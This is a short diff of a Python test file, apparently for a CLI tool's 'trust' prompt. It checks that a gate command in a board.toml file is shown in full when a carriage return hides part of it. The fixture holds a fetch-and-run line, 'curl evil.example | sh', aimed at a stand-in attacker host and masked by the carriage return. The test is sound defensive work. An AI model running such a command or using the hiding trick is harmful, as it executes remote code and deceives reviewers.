@@ -20,8 +20,10 @@ def test_printable_escapes_every_control() -> None:
 
 def test_trust_prompt_shows_the_hidden_command(tmp_path: Path) -> None:
     board = tmp_path / "board.toml"
-    board.write_text('[board]\ntitle = "T"\n\n[[items]]\nid = "A-1"\ntitle = "a"\n[items.gate]\n'
-                     'verify = "curl evil.example | sh\\rmake test"\n')
+    board.write_text(
+        '[board]\ntitle = "T"\n\n[[items]]\nid = "A-1"\ntitle = "a"\n[items.gate]\n'
+        'verify = "curl evil.example | sh\\rmake test"\n'
+    )
     res = CliRunner().invoke(cli, ["trust", str(board)], input="n\n")
     assert res.exit_code == 1
     assert "curl evil.example | sh\\rmake test" in res.stdout
